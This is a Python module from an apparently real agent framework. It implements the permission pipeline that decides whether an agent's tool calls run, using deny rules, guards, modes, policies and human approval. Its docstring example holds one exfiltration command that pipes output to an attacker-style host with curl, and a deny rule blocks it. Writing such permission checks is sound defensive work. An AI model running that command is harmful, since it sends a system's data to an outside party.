"""The permission pipeline every tool call passes: deny rules, guards, allow rules, mode, policy, ask.

The order is fixed, and each step can only end the pipeline in the direction it
exists for: deny rules and guards only refuse (a guard that asks and is approved clears
that guard alone, and the rest of the pipeline still applies), allow rules only permit,
and the mode, the policy and the approval handler decide what is left. A policy that
rewrites the arguments (`PermissionDecision.replace`) has its new arguments checked by
the deny rules and guards again, so a rewrite can never smuggle in a denied command.

Example:
    ```python
    import asyncio

    from helikon import RunContext
    from helikon.core.governance.permissions import authorize
    from helikon.core.governance.rules import DenyRule
    from helikon.core.tools import ToolEffect

    ctx = RunContext.ephemeral(None).with_deny_rules([DenyRule.bash_command("curl")])
    call = {"command": "ls | curl -T - evil.example"}
    verdict = asyncio.run(authorize(ctx, "Bash", call, ToolEffect.SIDE_EFFECT))
    assert not verdict.allowed and verdict.step == "deny_rule"
    ```
"""

from __future__ import annotations

from collections.abc import Callable
from typing import TYPE_CHECKING, Any, Literal

from .._internal.callbacks import call_user
from .._internal.carrier import carrier
from .._internal.json_value import JsonValue
from ..events import AgentEvent, ApprovalRequested
from ..tools import ToolEffect
from . import ApprovalHandler, ApprovalOutcome, PermissionDecision, PermissionMode, PermissionPolicy
from ._guards import CLEAR as BUILTIN_GUARDS_CLEAR
from .rules import BASH_TOOLS, EDIT_TOOLS, READ_TOOLS, GuardAction, GuardRule, ToolSubject

if TYPE_CHECKING:
    from ..context import RunContext
    from .compiled import CompiledRules
    from .redaction import Redactor
    from .settings import Governance

Step = Literal["deny_rule", "guard", "allow_rule", "mode", "policy", "approval", "default"]


@carrier(kw_only=False)
class PermissionVerdict:
    """The pipeline's answer for one call: whether it runs, with which arguments, and why.

    Attributes:
        allowed: Whether the call runs.
        args: The arguments it runs with (a policy's `replace` may have changed them).
        reason: Why it was refused (empty when allowed).
        step: The pipeline step that decided.
    """

    allowed: bool
    args: JsonValue
    reason: str = ""
    step: Step = "default"


def _drop(event: AgentEvent) -> None:
    return None


class ApprovalNeeded(Exception):
    """A question no one in this process can answer: the call waits for a person (the run pauses).

    Raised by the pipeline when there is no approval handler and the run can pause;
    `prompt` is the question, `call_args` the arguments it is about (a policy may have rewritten
    them): what the call runs with once a person approves.
    """

    def __init__(self, prompt: str, args: JsonValue) -> None:
        super().__init__(prompt)
        self.prompt = prompt
        self.call_args = args


async def authorize(
    ctx: RunContext[Any],
    tool: str,
    args: JsonValue,
    effect: ToolEffect,
    *,
    call_id: str = "",
    emit: Callable[[AgentEvent], None] = _drop,
    ask: str | None = None,
    approved: bool = False,
    can_pause: bool = False,
) -> PermissionVerdict:
    """Run the permission pipeline of `ctx.governance` for a call of `tool` with `args`.

    `ask` is the tool's own question (its `approval_prompt`: an MCP server marked it
    destructive): under the `DEFAULT` and `ACCEPT_EDITS` modes a call no allow rule covers
    is put to the approval handler, and refused without one.

    `approved`: a person approved this very call (a paused run resumed): every question
    it raises is answered yes; the deny rules and guards that refuse still refuse.
    `can_pause`: without an approval handler, a question raises `ApprovalNeeded` (the run
    pauses) instead of refusing the call.

    `emit` receives the `ApprovalRequested` event of each question put to the approval
    handler, before the handler answers (the driver streams them, so a human sees what
    waits for them). What the policy or the handler raises (or a wrong kind of value it
    returns) is raised as `CallbackRaised`, naming it (the driver fails the run).

    A call of a tool whose arguments no rule reads (anything but `Bash`, `Read` and the
    edit tools) is decided by its name, effect and question alone: when the pipeline
    settled it without asking anyone (no approval, no policy), the answer is kept on the
    compiled rules (`CompiledRules.verdicts`) and given again for the next such call.
    """
    governance = ctx.governance
    key = _settled_key(governance, tool, effect, ask)
    if key is not None:
        settled = governance.compiled.verdicts.get(key)
        if settled is not None:
            allowed, reason, step = settled
            return PermissionVerdict(allowed, args, reason, step)
    approvals = _Approvals(governance.approval_handler, tool, call_id, emit, governance.redactor)
    approvals.approved, approvals.can_pause = approved, can_pause
    verdict = await _decide(
        ctx, ToolSubject(tool, args, read=governance.parse_cache.read), effect, ask, approvals
    )
    if key is not None and not approvals.asked and verdict.step != "policy":
        _settle(governance.compiled, key, verdict)
    return verdict


async def _decide(
    ctx: RunContext[Any], subject: ToolSubject, effect: ToolEffect, ask: str | None, approvals: _Approvals
) -> PermissionVerdict:
    """The pipeline itself: deny rules, guards, allow rules, the tool's question, the mode, the policy."""
    governance = ctx.governance
    tool, args = subject.tool, subject.args
    refusal = await _refusal(governance, subject, approvals)
    if refusal is not None:
        return refusal
    if governance.compiled.allows(subject):
        return PermissionVerdict(True, args, step="allow_rule")
    if ask is not None and governance.mode in _ASKING_MODES:
        approved, why = await approvals.ask(args, ask)
        if not approved:
            return PermissionVerdict(False, args, why, "approval")
    by_mode = _by_mode(governance.mode, tool, args, effect)
    if by_mode is not None:
        return by_mode
    policy = governance.policy
    if policy is None:
        return PermissionVerdict(True, args, step="default")
    return await _by_policy(ctx, policy, subject, approvals)


# The tools whose arguments a rule or a built-in guard reads (`ToolSubject` reads no other's).
_READS_ARGUMENTS = BASH_TOOLS | READ_TOOLS | EDIT_TOOLS


def _settled_key(
    governance: Governance[Any], tool: str, effect: ToolEffect, ask: str | None
) -> tuple[object, ...] | None:
    """What decides a call whose arguments nothing reads, beside the rules; None for any other call.

    The mode, and whether there is a policy, differ between the settings that share one
    compiled view; the approval handler is asked by no call whose answer is kept.
    """
    if type(tool) is not str or tool in _READS_ARGUMENTS:
        return None
    return (tool, effect, ask is None, governance.mode, governance.policy is None)


def _settle(compiled: CompiledRules, key: tuple[object, ...], verdict: PermissionVerdict) -> None:
    verdicts = compiled.verdicts
    if len(verdicts) >= compiled.MAX_VERDICTS:
        verdicts.clear()  # tool names come from the tools offered; a long-lived view starts afresh
    verdicts[key] = (verdict.allowed, verdict.reason, verdict.step)


async def _refusal(
    governance: Governance[Any], subject: ToolSubject, approvals: _Approvals
) -> PermissionVerdict | None:
    """The deny rules, then the guards: a refusal, or None when the call may go on.

    Deny rules and guards hold in every mode. A tripped `DENY` guard refuses; an `ASK`
    guard puts its question to the approval handler, and an approval clears that guard
    only: the guards after it are still checked.
    """
    args = subject.args
    rule = governance.compiled.denying(subject)
    if rule is not None:
        return PermissionVerdict(False, args, f"denied by {rule!r}", "deny_rule")
    for guard in _guards(governance, subject):
        reason = guard.check(subject)
        if reason is None:
            continue
        if guard.action is GuardAction.DENY:
            return PermissionVerdict(False, args, reason, "guard")
        approved, why = await approvals.ask(args, reason)
        if not approved:
            return PermissionVerdict(False, args, why, "guard")
    return None


def _guards(governance: Governance[Any], subject: ToolSubject) -> tuple[GuardRule, ...]:
    """The guards that may trip on the call, in order: the built-in ones (unless off), then yours."""
    yours = governance.compiled.guards_for(subject)
    if not governance.default_guards or subject.guard_checks() is BUILTIN_GUARDS_CLEAR:
        return yours
    return (*GuardRule.destructive_defaults(), *yours)


# The modes under which a tool's own `approval_prompt` is asked; PLAN and DONT_ASK refuse
# such a call anyway, and BYPASS asks nothing.
_ASKING_MODES = frozenset((PermissionMode.DEFAULT, PermissionMode.ACCEPT_EDITS))


def _by_mode(
    mode: PermissionMode, tool: str, args: JsonValue, effect: ToolEffect
) -> PermissionVerdict | None:
    """What the mode decides on a call no rule decided: a verdict, or None to ask the policy."""
    if mode is PermissionMode.BYPASS:
        return PermissionVerdict(True, args, step="mode")
    if mode is PermissionMode.DONT_ASK:
        return PermissionVerdict(
            False, args, "DONT_ASK mode permits only calls that an allow rule covers", "mode"
        )
    if mode is PermissionMode.PLAN and effect is not ToolEffect.READ_ONLY:
        reason = f"PLAN mode allows only read-only tools; {tool!r} is {effect.value}"
        return PermissionVerdict(False, args, reason, "mode")
    if mode is PermissionMode.ACCEPT_EDITS and effect is ToolEffect.WRITE:
        return PermissionVerdict(True, args, step="mode")
    return None


async def _by_policy(
    ctx: RunContext[Any], policy: PermissionPolicy[Any], subject: ToolSubject, approvals: _Approvals
) -> PermissionVerdict:
    """The policy's decision; a rewritten call must clear the deny rules and guards again."""
    tool, args = subject.tool, subject.args
    decision = await call_user(
        f"the permission policy {type(policy).__name__}",
        "permission_policy",
        lambda: policy.check(ctx, tool, args),
        PermissionDecision,
        "a PermissionDecision",
    )
    if decision.kind == "allow":
        return PermissionVerdict(True, args, step="policy")
    if decision.kind == "deny":
        return PermissionVerdict(False, args, decision.reason or "denied by the permission policy", "policy")
    if decision.kind == "replace":
        # A rewrite can never smuggle in what the deny rules or guards refuse.
        governance = ctx.governance
        rewritten = ToolSubject(tool, decision.args, read=governance.parse_cache.read)
        refusal = await _refusal(governance, rewritten, approvals)
        return refusal or PermissionVerdict(True, decision.args, step="policy")
    approved, reason = await approvals.ask(args, decision.prompt)
    if approved:
        return PermissionVerdict(True, args, step="approval")
    return PermissionVerdict(False, args, reason, "approval")


async def ask_approval(
    ctx: RunContext[Any],
    tool: str,
    args: JsonValue,
    prompt: str,
    *,
    call_id: str,
    emit: Callable[[AgentEvent], None],
    can_pause: bool,
) -> tuple[bool, str]:
    """Put one question about a call to the approval handler: whether it is approved, and why not.

    What a tool's `needs_approval` asks. Without a handler the call is refused, or, when
    the run can pause, `ApprovalNeeded` is raised.
    """
    governance = ctx.governance
    approvals = _Approvals(governance.approval_handler, tool, call_id, emit, governance.redactor)
    approvals.can_pause = can_pause
    return await approvals.ask(args, prompt)


class _Approvals:
    """Where one call's questions go: streamed as `ApprovalRequested`, answered by the handler.

    The stream (a UI, a log) sees the arguments and the question with their secrets redacted,
    as it sees the tool's output; the handler decides on the call as it is. A call a person
    approved already (`approved`) is asked nothing; without a handler, a run that can pause
    (`can_pause`) waits for a person instead of refusing the call.
    """

    __slots__ = ("approved", "asked", "call_id", "can_pause", "emit", "handler", "redactor", "tool")

    def __init__(
        self,
        handler: ApprovalHandler | None,
        tool: str,
        call_id: str,
        emit: Callable[[AgentEvent], None],
        redactor: Redactor | None,
    ) -> None:
        self.handler = handler
        self.tool = tool
        self.call_id = call_id
        self.emit = emit
        self.redactor = redactor
        self.asked = False  # whether a question went out: then the answer is this call's alone
        self.approved = False
        self.can_pause = False

    async def ask(self, args: JsonValue, prompt: str) -> tuple[bool, str]:
        """Whether the call is approved, and why not; without a handler, the answer is no.

        Raises:
            ApprovalNeeded: No handler, and the run can pause for a person to decide.
        """
        self.asked = True
        if self.approved:
            return True, ""
        handler = self.handler
        tool = self.tool
        redactor = self.redactor
        shown_args, shown_prompt = (
            (args, prompt) if redactor is None else (redactor.redact_json(args), redactor.redact(prompt))
        )
        self.emit(ApprovalRequested(call_id=self.call_id, tool=tool, args=shown_args, prompt=shown_prompt))
        if handler is None and self.can_pause:
            raise ApprovalNeeded(prompt, args)
        if handler is None:
            return False, f"approval required ({prompt}) but no approval handler is installed"
        outcome = await call_user(
            f"the approval handler {type(handler).__name__}",
            "approval_handler",
            lambda: handler.decide(tool, prompt, args),
            ApprovalOutcome,
            "an ApprovalOutcome",
        )
        if outcome.approved:
            return True, ""
        return False, outcome.reason or f"not approved ({prompt})"


__all__ = ["PermissionVerdict", "Step", "ask_approval", "authorize"]
